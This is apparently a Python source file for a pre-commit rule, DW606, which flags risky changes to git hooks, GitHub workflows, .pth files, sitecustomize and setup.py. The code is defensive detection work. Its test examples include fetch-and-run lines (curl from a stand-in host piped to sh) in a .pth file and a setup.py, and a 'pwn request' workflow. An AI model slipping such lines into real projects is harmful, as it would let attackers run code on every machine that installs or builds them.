"""sensitive-paths: changes to files that run code on other people's machines without asking.

**What it finds.** DW606, on the lines a change adds to:
- a git hook (`.git/hooks/*`): it runs at every commit of whoever has the checkout;
- a GitHub Actions workflow (`.github/workflows/*.yml`): a `pull_request_target` trigger in a
  workflow that checks out the pull request's head (the "pwn request": untrusted code runs with
  the repository's secrets and write token), and each new use of a secret (`${{ secrets.X }}`,
  `secrets: inherit`), which a reviewer should see;
- a `.pth` file: its `import` lines run at the start of every Python process of the environment;
- `sitecustomize.py` and `usercustomize.py`: they run at every interpreter start;
- `setup.py`: calls that run commands (`subprocess`, `os.system`, `os.popen`, `os.exec*`,
  `os.spawn*`) or open network connections (`urllib.request`, `requests`, `httpx`,
  `socket.socket`, `http.client`), which run on every machine that installs the package from source.

**Why it matters in assistant-written code.** A prompt-injected assistant, or one that "fixes
the build", reaches for exactly these places: they run code later, elsewhere, and with more
privileges than the change itself, and a reviewer skims them as configuration. Malicious
packages use `setup.py` and `.pth` files to run at install and start-up; the 2024 `ultralytics`
compromise came through a `pull_request_target` workflow.

**Bad**

```yaml
# .github/workflows/pr.yml
on: pull_request_target
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
```

**Good**

```yaml
on: pull_request
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
```

**Not flagged.** `pull_request_target` in a workflow that never checks out the pull request's
code (labelling, greeting bots); `secrets.GITHUB_TOKEN`, which every workflow has; path lines in
a `.pth` file (only `import` lines run); `setup.py` calls to `setup()`, `open()` and `os.path`;
commands in `setup.py` text inside strings or comments; files with these names outside their
place (`docs/setup.py.txt`, `hooks/pre-commit` outside `.git`).

**Fix.** None automatic: review the change by hand. Build pull requests with `pull_request`, and
pass secrets only to jobs that need them; move install-time commands into a build backend
option or documentation; put start-up code in an explicit entry point.

**References.** CWE-506 (embedded malicious code), CWE-829 (inclusion of functionality from an
untrusted control sphere), CWE-1395 (dependency on vulnerable third-party component); GitHub
Security Lab, "Keeping your GitHub Actions and workflows secure: preventing pwn requests" (2021);
Python `site` module documentation (`.pth` files, sitecustomize). No bandit or ruff counterpart;
zizmor's `dangerous-triggers` audit is the closest for workflows.
"""

from __future__ import annotations

import ast
import fnmatch
from typing import Dict, Iterator, List, Optional, Set, Tuple

from hooks.engine.prefilter import Prefilter
from hooks.engine.pyast import tree_of
from hooks.engine.rule import Bad, Confidence, Finding, Ok, Severity, TextRule
from hooks.engine.lazyre import lazy_re

# the files pre-commit passes to this hook alone (`.pre-commit-hooks.yaml`)
PRECOMMIT_FILES = (
    r"(^|/)(\.git/hooks/[^/]+|\.github/workflows/[^/]+\.ya?ml|[^/]+\.pth|"
    r"(site|user)customize\.py|setup\.py)$"
)
WORKFLOWS = (".github/workflows/*.yml", ".github/workflows/*.yaml")
STARTUP_FILES = frozenset({"sitecustomize.py", "usercustomize.py"})
# what a workflow must say for any finding here; git hooks are known by name
WORKFLOW_WORDS = lazy_re(rb"pull_request_target|\$\{\{\s*secrets\.|secrets:\s*inherit")
GIT_HOOKS = (
    "applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit",
    "prepare-commit-msg", "commit-msg", "post-commit", "pre-rebase", "post-checkout",
    "post-merge", "pre-push", "pre-receive", "update", "post-receive", "post-update",
    "push-to-checkout", "pre-auto-gc", "post-rewrite", "sendemail-validate",
    "fsmonitor-watchman", "reference-transaction",
)  # fmt: skip
PWN_TRIGGER = lazy_re(r"\bpull_request_target\b")
# the pull request's own code: its head commit or ref, or the merge ref GitHub makes for it
PR_HEAD = lazy_re(
    r"github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|refs/pull/|"
    r"github\.event\.pull_request\.merge_commit_sha"
)
SECRET_USE = lazy_re(r"\$\{\{\s*secrets\.(?!GITHUB_TOKEN\b)([A-Za-z_][A-Za-z0-9_]*)|"
                        r"^\s*secrets:\s*inherit\b")  # fmt: skip
PTH_IMPORT = lazy_re(r"^import[ \t]")
# qualified names (or module prefixes ending in `.`) whose call in setup.py runs a command or
# opens a connection at install time
INSTALL_TIME_CALLS = (
    "subprocess.", "os.system", "os.popen", "os.exec", "os.spawn", "os.startfile",
    "urllib.request.", "urllib2.", "requests.", "httpx.", "urllib3.", "socket.socket",
    "socket.create_connection", "http.client.", "ftplib.", "pip.",
)  # fmt: skip
CALL_WORDS = lazy_re(
    rb"\b(subprocess|system|popen|exec\w*|spawn\w*|startfile|urllib\w*|requests|httpx|socket|"
    rb"http|ftplib|pip)\b"
)


def _norm(path: str) -> str:
    return path.replace("\\", "/")


def _name(path: str) -> str:
    return _norm(path).rsplit("/", 1)[-1]


def _under(path: str, patterns: Tuple[str, ...]) -> bool:
    norm = _norm(path)
    return any(
        fnmatch.fnmatchcase(norm, p) or fnmatch.fnmatchcase(norm, "*/" + p) for p in patterns
    )


def place(path: str) -> Optional[str]:
    """Which sensitive place `path` is: `git-hook`, `workflow`, `pth`, `startup`, `setup.py`."""
    if _under(path, (".git/hooks/*",)):
        return "git-hook"
    if _under(path, WORKFLOWS):
        return "workflow"
    name = _name(path)
    if name.endswith(".pth"):
        return "pth"
    if name in STARTUP_FILES:
        return "startup"
    if name == "setup.py":
        return "setup.py"
    return None


def _numbered(text: str, lines: Optional[Set[int]]) -> Iterator[Tuple[int, str]]:
    every = text.split("\n")
    for number in range(1, len(every) + 1) if lines is None else sorted(lines):
        if number <= len(every):
            yield number, every[number - 1]


def _aliases(tree: ast.AST) -> Dict[str, str]:
    """Local name -> qualified name of every import in the file (setup.py is small and flat)."""
    found: Dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                local = alias.asname or alias.name.split(".", 1)[0]
                found[local] = alias.name if alias.asname else local
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            for alias in node.names:
                found[alias.asname or alias.name] = f"{node.module}.{alias.name}"
    return found


def _dotted(node: ast.expr) -> Optional[str]:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        base = _dotted(node.value)
        return f"{base}.{node.attr}" if base else None
    return None


def install_time_calls(text: str) -> Iterator[Tuple[int, int, int, str]]:
    """(line, col, end col, qualified name) of each command or network call in a setup.py."""
    tree = tree_of(text)
    if tree is None:
        return  # the syntax-error check of the Python hooks reports it
    aliases = _aliases(tree)
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        dotted = _dotted(node.func)
        if dotted is None:
            continue
        head, _, rest = dotted.partition(".")
        if head not in aliases:
            continue  # a local name or a builtin: not a module we know
        qualified = aliases[head] + (f".{rest}" if rest else "")
        if qualified.startswith(INSTALL_TIME_CALLS):
            end = node.func.end_col_offset or node.func.col_offset
            yield node.lineno, node.col_offset + 1, end + 1, qualified


class SensitivePath(TextRule):
    code = "DW606"
    name = "sensitive-path-change"
    summary = (
        "A change to a file that runs code elsewhere without asking: git hooks, workflows that "
        "expose secrets, .pth and sitecustomize files, install-time commands in setup.py."
    )
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (506, 829)
    message = "{what}"
    hint = "review it by hand: it runs on other machines, at other times, with more privileges"
    prefilter_names = ("*.pth", *STARTUP_FILES, "setup.py", *GIT_HOOKS)
    prefilter = Prefilter(patterns=[WORKFLOW_WORDS.pattern])
    examples = (
        Bad(
            "on: pull_request_target\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n"
            "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
            ((1, 5), (7, 20)),
            path=".github/workflows/pr.yml",
            why="the pwn request: both halves are reported",
        ),
        Bad(
            "jobs:\n  publish:\n    steps:\n      - run: twine upload dist/*\n        env:\n"
            "          TWINE_PASSWORD: ${{ secrets.PYPI_TOKEN }}\n",
            ((6, 27),),
            severity=Severity.MEDIUM,
            path=".github/workflows/release.yaml",
        ),
        Bad(
            "jobs:\n  call:\n    uses: ./.github/workflows/deploy.yml\n    secrets: inherit\n",
            ((4, 5),),
            severity=Severity.MEDIUM,
            path=".github/workflows/ci.yml",
        ),
        Bad(
            "/opt/plugins\nimport os; os.system('curl -s https://x.example/p | sh')\n",
            ((2, 1),),
            path="lib/python3.12/site-packages/zz_init.pth",
        ),
        Bad("import telemetry\ntelemetry.start()\n", ((1, 1),), path="sitecustomize.py"),
        Bad(
            "import os\nfrom setuptools import setup\nos.system('curl https://x.example/i | sh')\n"
            "setup(name='pkg')\n",
            ((3, 1),),
            path="setup.py",
        ),
        Bad(
            "import subprocess as sp\nfrom urllib.request import urlopen\n"
            "sp.check_call(['make'])\nurlopen('https://x.example/ping')\n",
            ((3, 1), (4, 1)),
            path="pkg/setup.py",
        ),
        Bad("#!/bin/sh\nexec python -m app.check\n", ((1, 1),), path=".git/hooks/pre-commit"),
        Ok(
            "on: pull_request_target\njobs:\n  label:\n    steps:\n"
            "      - uses: actions/labeler@v5\n",
            path=".github/workflows/label.yml",
            why="no checkout of the pull request's code",
        ),
        Ok(
            "jobs:\n  t:\n    steps:\n      - run: gh pr view\n        env:\n"
            "          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n",
            path=".github/workflows/ci.yml",
        ),
        Ok("/opt/plugins\n../shared/lib\n", path="site-packages/extra.pth", why="paths only"),
        Ok(
            "import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\n"
            "setup(name='pkg', long_description=open('README.md').read())\n",
            path="setup.py",
        ),
        Ok("# we used to run subprocess.call(['make']) here\nsetup()\n", path="setup.py"),
        Ok("secrets: ${{ secrets.TOKEN }}\n", path="docs/ci-example.yml", why="not a workflow"),
        Ok("import os\nos.system('make')\n", path="tools/build.py", why="not setup.py"),
    )

    def wants(self, path: str, data: bytes) -> bool:
        found = place(path)
        if found == "setup.py":
            return CALL_WORDS.search(data) is not None
        if found == "workflow":
            return WORKFLOW_WORDS.search(data) is not None
        return found is not None

    def scan(
        self, path: str, data: bytes, text: Optional[str], lines: Optional[Set[int]]
    ) -> List[Finding]:
        where = place(path)
        if text is None or where is None:
            return []
        if where == "workflow":
            return list(self._workflow(path, text, lines))
        if where == "setup.py":
            return [
                self.found(path, line, col, end, what=f"`{name}` in setup.py runs at install time")
                for line, col, end, name in install_time_calls(text)
                if lines is None or line in lines
            ]
        if where == "pth":
            return [
                self.found(
                    path,
                    n,
                    1,
                    7,
                    what="an `import` line in a .pth file runs at every "
                    "start of Python in this environment",
                )  # fmt: skip
                for n, line in _numbered(text, lines)
                if PTH_IMPORT.match(line)
            ]
        first = next((n for n, line in _numbered(text, lines) if line.strip()), None)
        if first is None:
            return []
        what = (
            f"`{_name(path)}` is a git hook: it runs at every commit in this checkout"
            if where == "git-hook"
            else f"`{_name(path)}` runs at every start of the Python interpreter"
        )
        return [self.found(path, first, 1, 1, what=what)]

    def _workflow(self, path: str, text: str, lines: Optional[Set[int]]) -> Iterator[Finding]:
        pwn = PWN_TRIGGER.search(text) is not None and PR_HEAD.search(text) is not None
        for number, line in _numbered(text, lines):
            for pattern in (PWN_TRIGGER, PR_HEAD) if pwn else ():
                match = pattern.search(line)
                if match:
                    yield self.found(
                        path, number, match.start() + 1, match.end() + 1,
                        what="`pull_request_target` with a checkout of the pull request's head: "
                        "its code runs with this repository's secrets and write token",
                    )  # fmt: skip
            for match in SECRET_USE.finditer(line):
                name = match.group(1)
                used = f"the secret `{name}`" if name else "every secret (`secrets: inherit`)"
                start = match.start() + len(match.group()) - len(match.group().lstrip())
                yield self.found(
                    path, number, start + 1, match.end() + 1, Severity.MEDIUM,
                    what=f"the workflow is given {used}: check which steps can read it",
                )  # fmt: skip
